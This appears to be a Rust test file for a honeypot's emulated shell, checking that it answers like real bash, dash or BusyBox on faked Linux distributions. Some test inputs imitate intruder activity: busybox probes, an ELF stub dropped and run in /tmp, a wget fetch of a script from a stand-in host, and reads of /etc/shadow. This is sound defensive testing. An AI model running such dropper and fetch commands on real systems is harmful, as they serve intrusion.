//! Transcripts: what a visitor types and what the machine answers.

use std::{
    sync::{Arc, Mutex},
    task::{Context, Poll, Waker},
    time::Duration,
};

use decnet_persona::{Distro, Persona, PersonaSpec, Seed};
use proptest::prelude::*;

use super::*;

/// What was seen from outside.
#[derive(Debug, Default)]
struct Seen {
    out: Vec<u8>,
    err: Vec<u8>,
    files: Vec<(String, Vec<u8>)>,
    fetched: Vec<String>,
    input: std::collections::VecDeque<Vec<u8>>,
}

struct Bench(Arc<Mutex<Seen>>);

impl Outside for Bench {
    fn write(&mut self, stream: Stream, bytes: &[u8]) {
        let mut seen = self.0.lock().unwrap();
        match stream {
            Stream::Out => seen.out.extend_from_slice(bytes),
            Stream::Err => seen.err.extend_from_slice(bytes),
        }
    }
    fn flush(&mut self) -> Running<'_, bool> {
        Box::pin(async { true })
    }
    fn read(&mut self, _echo: bool) -> Running<'_, Option<Vec<u8>>> {
        let next = self.0.lock().unwrap().input.pop_front();
        Box::pin(async { next })
    }
    fn pause(&mut self, _time: Duration) -> Running<'_, bool> {
        Box::pin(async { true })
    }
    fn report(&mut self, report: Report<'_>) {
        let mut seen = self.0.lock().unwrap();
        match report {
            Report::File { path, bytes, .. } => seen.files.push((path.to_owned(), bytes.to_vec())),
            Report::Fetch { url, .. } => seen.fetched.push(url.to_owned()),
            _ => {}
        }
    }
    fn now(&self) -> i64 {
        1_700_000_000
    }
}

fn template() -> &'static Template {
    static TEMPLATE: std::sync::OnceLock<Template> = std::sync::OnceLock::new();
    TEMPLATE.get_or_init(|| {
        let mut spec = PersonaSpec::new(Seed::from_bytes([7; 16]), "linux-server");
        spec.distro = Some(
            Distro::ALL
                .iter()
                .copied()
                .find(|d| d.as_str() == "debian12")
                .unwrap_or(Distro::ALL[0]),
        );
        Template::new(&Persona::derive(&spec).unwrap(), Arc::default())
    })
}

/// Run a future that never really waits.
fn now_or_never<F: Future>(future: F) -> F::Output {
    let mut future = std::pin::pin!(future);
    match future.as_mut().poll(&mut Context::from_waker(Waker::noop())) {
        Poll::Ready(out) => out,
        Poll::Pending => panic!("the shell waited for something that the test does not give"),
    }
}

fn run_as(user: &str, script: &str) -> (String, String, u8, Arc<Mutex<Seen>>) {
    let seen = Arc::new(Mutex::new(Seen::default()));
    let mut shell = template().shell(
        user,
        "192.0.2.7 40022 22",
        Box::new(Bench(Arc::clone(&seen))),
        4_711,
        vfs::Shared::default(),
    );
    shell.env.arg0 = "bash".to_owned();
    shell.env.from_argument = true;
    now_or_never(shell.run_line(script.as_bytes()));
    now_or_never(shell.finish());
    shell.surrender_all();
    let (out, err) = {
        let seen = seen.lock().unwrap();
        (
            String::from_utf8_lossy(&seen.out).into_owned(),
            String::from_utf8_lossy(&seen.err).into_owned(),
        )
    };
    (out, err, shell.status, seen)
}

fn run(script: &str) -> (String, String, u8) {
    let (out, err, status, _) = run_as("root", script);
    (out, err, status)
}

/// Scripts of pure shell, which mean the same to any shell: run by ours and by the real bash.
const SCRIPTS: &str = include_str!("data/scripts.txt");
/// Scripts that need bash, or whose complaints are compared, too.
const BASH_SCRIPTS: &str = include_str!("data/bash_scripts.txt");
/// Scripts for Debian's `sh`.
const DASH_SCRIPTS: &str = include_str!("data/dash_scripts.txt");

fn scripts(text: &str) -> impl Iterator<Item = &str> {
    text.split("\n----\n")
        .map(str::trim_end)
        .filter(|s| !s.is_empty())
}

/// Run every script by the real shell in an empty folder and by ours, and compare what they print, how they end, and
/// (where `complaints`) what they complain of. How many were compared, or `None` where there is no such shell here.
fn compare(shell: &str, text: &str, complaints: bool) -> Option<usize> {
    let folder = tempfile::tempdir().unwrap();
    let mut wrong = Vec::new();
    let mut count = 0;
    for script in scripts(text) {
        let mut command = std::process::Command::new(shell);
        if shell == "bash" {
            command.arg("--norc");
        }
        let Ok(real) = command
            .args(["-c", script])
            .current_dir(folder.path())
            .stdin(std::process::Stdio::null())
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", "/root")
            .env("LC_ALL", "C.UTF-8")
            .output()
        else {
            println!("skipped: no {shell} on this machine to compare with");
            return None;
        };
        count += 1;
        let (out, err, status) = run_by(shell, script);
        let expected = String::from_utf8_lossy(&real.stdout).into_owned();
        let told = String::from_utf8_lossy(&real.stderr).into_owned();
        let differs =
            out != expected || Some(i32::from(status)) != real.status.code() || (complaints && err != told);
        if differs {
            wrong.push(format!(
                "{script}\n  {shell}: {expected:?} {told:?} {:?}\n  ours: {out:?} {err:?} {status}",
                real.status.code()
            ));
        }
        for entry in std::fs::read_dir(folder.path()).unwrap().flatten() {
            if entry.file_type().unwrap().is_dir() {
                std::fs::remove_dir_all(entry.path()).unwrap()
            } else {
                std::fs::remove_file(entry.path()).unwrap()
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {count} differ:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    Some(count)
}

/// Run a script as `bash -c` or `dash -c` would, in `/tmp`.
fn run_by(name: &str, script: &str) -> (String, String, u8) {
    let seen = Arc::new(Mutex::new(Seen::default()));
    let outside = Box::new(Bench(Arc::clone(&seen)));
    let mut shell = template().shell(
        "root",
        "192.0.2.7 40022 22",
        outside,
        4_711,
        vfs::Shared::default(),
    );
    name.clone_into(&mut shell.env.arg0);
    shell.env.from_argument = true;
    shell.env.cwd = "/tmp".to_owned();
    if name == "dash" {
        shell.env.dialect = vars::Dialect::Dash;
    }
    now_or_never(shell.run_line(script.as_bytes()));
    now_or_never(shell.finish());
    let seen = seen.lock().unwrap();
    (
        String::from_utf8_lossy(&seen.out).into_owned(),
        String::from_utf8_lossy(&seen.err).into_owned(),
        shell.status,
    )
}

#[test]
fn pure_shell_means_what_it_means_to_bash() {
    if let Some(count) = compare("bash", SCRIPTS, false) {
        assert!(count > 100, "{count} scripts");
    }
}

#[test]
fn bash_forms_and_complaints_are_bashs() {
    if let Some(count) = compare("bash", BASH_SCRIPTS, true) {
        assert!(count > 100, "{count} scripts");
    }
}

#[test]
fn sh_is_dash_where_it_is_on_debian() {
    if let Some(count) = compare("dash", DASH_SCRIPTS, true) {
        assert!(count > 20, "{count} scripts");
    }
}

#[test]
fn what_bots_probe_is_answered_as_a_machine_answers() {
    for (script, out, err) in [
        ("/bin/busybox ABCDE", "", "ABCDE: applet not found\n"),
        ("foo", "", "bash: line 1: foo: command not found\n"),
        (
            "cd /nowhere",
            "",
            "bash: line 1: cd: /nowhere: No such file or directory\n",
        ),
        ("cat /nowhere", "", "cat: /nowhere: No such file or directory\n"),
        (
            "ls /nowhere",
            "",
            "ls: cannot access '/nowhere': No such file or directory\n",
        ),
        ("whoami", "root\n", ""),
        ("id", "uid=0(root) gid=0(root) groups=0(root)\n", ""),
        ("echo -e '\\x6b\\x61\\x6d\\x69'", "kami\n", ""),
        ("echo $((6*7)); uname", "42\nLinux\n", ""),
        ("cd /tmp && pwd", "/tmp\n", ""),
        ("rm -rf /tmp/x; mkdir /tmp/x; ls -d /tmp/x", "/tmp/x\n", ""),
        ("rm /etc", "", "rm: cannot remove '/etc': Is a directory\n"),
    ] {
        let (got, told, _) = run(script);
        assert_eq!((got.as_str(), told.as_str()), (out, err), "{script}");
    }
}

#[test]
fn what_is_written_is_captured_and_what_is_fetched_is_reported() {
    let (_, err, status, seen) = run_as(
        "root",
        "cd /tmp; echo -ne '\\x7fELF\\x01' > a; chmod +x a; ./a; rm a; echo two > b; wget http://198.51.100.9/x.sh",
    );
    let seen = seen.lock().unwrap();
    assert_eq!(
        seen.files,
        [
            ("/tmp/a".to_owned(), b"\x7fELF\x01".to_vec()),
            ("/tmp/b".to_owned(), b"two\n".to_vec())
        ]
    );
    assert_eq!(seen.fetched, ["http://198.51.100.9/x.sh"]);
    assert!(
        err.contains("./a: cannot execute binary file: Exec format error"),
        "{err}"
    );
    assert!(err.contains("Connection timed out"), "{err}");
    assert_eq!(status, 4);
}

#[test]
fn a_plain_user_is_kept_out_of_what_is_roots() {
    let user = template()
        .machine
        .accounts
        .iter()
        .find(|a| a.uid != 0)
        .map(|a| a.name.clone())
        .unwrap();
    let (_, err, status, _) = run_as(&user, "cat /etc/shadow");
    assert_eq!(
        (err.as_str(), status),
        ("cat: /etc/shadow: Permission denied\n", 1)
    );
    let (_, err, ..) = run_as(&user, "echo x > /etc/x");
    assert_eq!(err, "bash: line 1: /etc/x: Permission denied\n");
}

#[test]
fn endless_work_is_killed() {
    for script in [
        "while :; do :; done",
        "f() { f; }; f",
        "while true; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done",
        "for i in {1..900}; do for j in {1..900}; do :; done; done",
        "x=a; while :; do x=$x$x; done",
    ] {
        let (out, _, status) = run(script);
        assert!(out.len() <= 5 << 20, "{script}");
        assert_eq!(status, 137, "{script}");
    }
}

#[test]
fn the_file_system_is_a_few_thousand_entries_that_agree_with_the_persona() {
    let (out, ..) = run("find / | wc -l");
    assert!(out.trim().parse::<usize>().unwrap() > 2_000, "{out}");
    let (out, ..) = run("cat /etc/hostname; hostname; grep -c processor /proc/cpuinfo; nproc");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], lines[1]);
    assert_eq!(lines[2], lines[3]);
}

#[test]
fn line_editing_moves_deletes_and_recalls() {
    let history = vec!["uname -a".to_owned(), "id".to_owned()];
    for (keys, line) in [
        (&b"lss\x7f -l\r"[..], "ls -l"),
        (b"abc\x1b[D\x1b[DX\r", "aXbc"),
        (b"one two\x17three\r", "one three"),
        (b"gone\x15here\r", "here"),
        (b"\x1b[A\r", "id"),
        (b"\x1b[A\x1b[A\r", "uname -a"),
        (b"b\x01a\x05c\r", "abc"),
        ("é\x7fe\r".as_bytes(), "e"),
    ] {
        let mut editor = terminal::Editor::default();
        let mut echo = Vec::new();
        let done = keys
            .iter()
            .find_map(|b| editor.key(*b, terminal::Mode::Line, &history, &mut echo));
        assert_eq!(
            done,
            Some(terminal::Key::Line(line.as_bytes().to_vec())),
            "{keys:?}"
        );
    }
}

#[test]
fn the_fuzz_corpus_parses_or_is_refused() {
    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/corpus/shell_parse");
    let mut count = 0;
    for entry in std::fs::read_dir(&corpus).unwrap().flatten() {
        let bytes = std::fs::read(entry.path()).unwrap();
        // Either is fine; not coming back is not.
        let _either = parse::parse(&bytes);
        count += 1;
    }
    assert!(count > 10, "{count} in {}", corpus.display());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn the_parser_takes_any_bytes(script in prop::collection::vec(any::<u8>(), 0..300)) {
        let _either = parse::parse(&script);
    }

    #[test]
    fn the_shell_takes_any_line(line in "[ -~\n]{0,80}") {
        run(&line);
    }

    #[test]
    fn the_shell_takes_any_mix_of_its_own_words(words in prop::collection::vec(prop::sample::select(vec![
        "if", "then", "fi", "for", "do", "done", "while", "case", "esac", "in", "{", "}", "(", ")", ";", "&&", "||", "|", "&", ">", "<<", "<",
        "$(", "`", "\"", "'", "${x", "$((", "))", "echo", "ls", "x=1", "$x", "*", "\n", "f()", "!", "cat", "/etc/passwd", "2>&1", "sed", "s/a/b/", "awk",
    ]), 0..30)) {
        run(&words.join(" "));
    }

    #[test]
    fn line_editing_takes_any_keys(keys in prop::collection::vec(any::<u8>(), 0..200)) {
        let mut editor = terminal::Editor::default();
        let mut echo = Vec::new();
        for key in keys {
            editor.key(key, terminal::Mode::Line, &["ls".to_owned()], &mut echo);
        }
        prop_assert!(echo.len() < 1 << 20);
    }
}

/// What says which distribution a machine is; a program that is not there says so.
const WHICH: &str = "cat /etc/*release; cat /etc/issue; uname -a; ls /etc; ls /usr/bin /bin /usr/sbin; cat /proc/version; cat /etc/motd; \
    cat /etc/apt/sources.list; cat /etc/debian_version; dpkg -l; apt update; rpm -qa; dnf makecache; apk info; apk update; pacman -Q; pacman -Sy; busybox; bash --version; echo $BASH_VERSION";

fn of_distro(distro: Distro, seed: u8) -> Template {
    let mut spec = PersonaSpec::new(Seed::from_bytes([seed; 16]), "linux-server");
    spec.distro = Some(distro);
    Template::new(&Persona::derive(&spec).unwrap(), Arc::default())
}

#[test]
fn a_machine_names_no_other_distribution_than_its_own() {
    let names: [(&str, &[Distro]); 8] = [
        ("debian", &[Distro::Debian11, Distro::Debian12]),
        ("ubuntu", &[Distro::Ubuntu20, Distro::Ubuntu22, Distro::Ubuntu24]),
        ("rocky", &[Distro::Rocky9]),
        ("fedora", &[Distro::Fedora]),
        ("alpine", &[Distro::Alpine]),
        ("kali", &[Distro::Kali]),
        ("archlinux", &[Distro::Arch]),
        ("buildroot", &[Distro::Firmware]),
    ];
    for distro in names.iter().flat_map(|(_, distros)| *distros) {
        for seed in 0..3 {
            let template = of_distro(*distro, seed);
            let seen = Arc::new(Mutex::new(Seen::default()));
            let outside = Box::new(Bench(Arc::clone(&seen)));
            let mut shell = template.shell("root", "192.0.2.7 4 22", outside, 1, vfs::Shared::default());
            now_or_never(shell.run_line(WHICH.as_bytes()));
            let machine = &template.machine;
            let motd = machine.distribution.motd(&machine.uname, machine.architecture);
            let seen = seen.lock().unwrap();
            let shown = format!("{}{motd}", String::from_utf8_lossy(&seen.out));
            let told = String::from_utf8_lossy(&seen.err).into_owned();
            // Complaints echo the names of files and programs that were asked for.
            let told: String = told
                .lines()
                .filter(|l| !l.contains("not found") && !l.contains("No such file"))
                .collect();
            let all = format!("{shown}\n{told}").to_lowercase();
            // Their own texts name relatives: ID_LIKE, Debian's files on Ubuntu and Kali, Fedora's heirs.
            let relatives: &[&str] = match distro {
                Distro::Ubuntu20 | Distro::Ubuntu22 | Distro::Ubuntu24 | Distro::Kali => &["debian"],
                Distro::Rocky9 => &["fedora"],
                _ => &[],
            };
            for (name, own) in names {
                let at = all.find(name);
                if own.contains(distro) {
                    assert!(at.is_some(), "{distro} nowhere says {name}:\n{shown}");
                } else if !relatives.contains(&name) {
                    let near = at.map(|at| all.get(at.saturating_sub(60)..at + 60));
                    assert!(at.is_none(), "{distro} says {name}: {near:?}");
                }
            }
        }
    }
}

#[test]
fn a_busybox_machine_has_its_own_shell_and_no_bash() {
    for distro in [Distro::Alpine, Distro::Firmware] {
        let template = of_distro(distro, 1);
        let seen = Arc::new(Mutex::new(Seen::default()));
        let outside = Box::new(Bench(Arc::clone(&seen)));
        let mut shell = template.shell("root", "192.0.2.7 4 22", outside, 1, vfs::Shared::default());
        shell.interactive = true;
        now_or_never(
            shell.run_line(
                b"bash; apt-get; /bin/busybox cat /etc/hostname; readlink /bin/ls; sh -c 'echo in'",
            ),
        );
        let (out, err) = {
            let seen = seen.lock().unwrap();
            (
                String::from_utf8_lossy(&seen.out).into_owned(),
                String::from_utf8_lossy(&seen.err).into_owned(),
            )
        };
        let name = template.machine.distribution.shell_name();
        assert_eq!(
            err,
            format!("-{name}: bash: not found\n-{name}: apt-get: not found\n")
        );
        assert_eq!(out, format!("{}\n/bin/busybox\nin\n", template.machine.hostname));
    }
}

#[test]
fn the_listing_names_no_build_machine() {
    let (out, ..) = run("find / -xdev");
    for word in [
        "google",
        "gcloud",
        "containerenv",
        "cargo",
        "rustup",
        "jenkins",
        "gitlab",
        "runner",
        "maven",
        "node_modules",
        "fakeroot",
        "honey",
        "cowrie",
        "decnet",
        "dpkg-dev",
        "chromium",
        "nvidia",
    ] {
        let hits: Vec<&str> = out.lines().filter(|l| l.contains(word)).take(3).collect();
        assert!(hits.is_empty(), "{word}: {hits:?}");
    }
    let (out, ..) = run("cat /etc/services /etc/login.defs | grep -c ELF");
    assert_eq!(out, "0\n");
}
